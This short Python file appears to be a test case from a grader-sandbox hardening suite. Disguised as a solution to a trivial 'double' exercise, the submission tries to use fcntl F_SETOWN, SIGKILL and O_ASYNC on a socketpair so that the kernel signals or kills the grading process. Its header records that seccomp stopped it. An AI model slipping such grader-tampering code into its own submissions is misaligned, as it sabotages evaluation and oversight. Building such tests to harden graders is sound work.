# attack: makes the kernel signal the grader whenever its own socket is written to
# stopped by: seccomp refuses to name a receiver of such signals
# verdict: failed
# exercise: 01_double
# tier: seccomp
import fcntl
import os
import signal
import socket


def double(x):
    ours, theirs = socket.socketpair()
    for command, value in ((fcntl.F_SETOWN, int("@JUDGE@")), (10, signal.SIGKILL), (15, bytes(8))):
        try:
            fcntl.fcntl(ours, command, value)
            print("ESCAPED", command)
        except OSError:
            pass
    try:
        fcntl.fcntl(ours, fcntl.F_SETFL, os.O_ASYNC)
        print("ESCAPED", "O_ASYNC")
    except OSError:
        pass
    theirs.send(b"x")
    return x
